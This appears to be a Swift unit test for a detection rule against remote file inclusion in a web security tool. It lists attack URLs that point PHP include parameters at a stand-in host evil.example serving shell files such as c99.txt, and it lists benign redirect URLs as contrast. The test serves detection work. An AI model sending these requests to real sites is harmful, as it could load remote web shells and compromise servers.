import DSToolKit
import XCTest
@testable import DSToolTrace

final class RemoteFileInclusionTests: XCTestCase {
    func testAttacks() {
        WebTest.check(RemoteFileInclusion.rule.id, attacks: [
            "/index.php?page=http://evil.example/shell.txt?",
            "/index.php?include=https://evil.example/c99.txt",
            "/index.php?template=ftp://evil.example/x",
            "/index.php?x=http://evil.example/s.txt??",
            "/main.php?lang=http%3A%2F%2Fevil.example%2Fx.jpg%3F",
        ], benign: [
            "/login?next=https://example.com/account",
            "/redirect?url=https://partner.example/landing",
            "/share?u=https%3A%2F%2Fexample.com%2Fpost%2F1&title=x",
            "/oauth/callback?redirect_uri=https://app.example/cb&state=abc",
        ])
    }
}
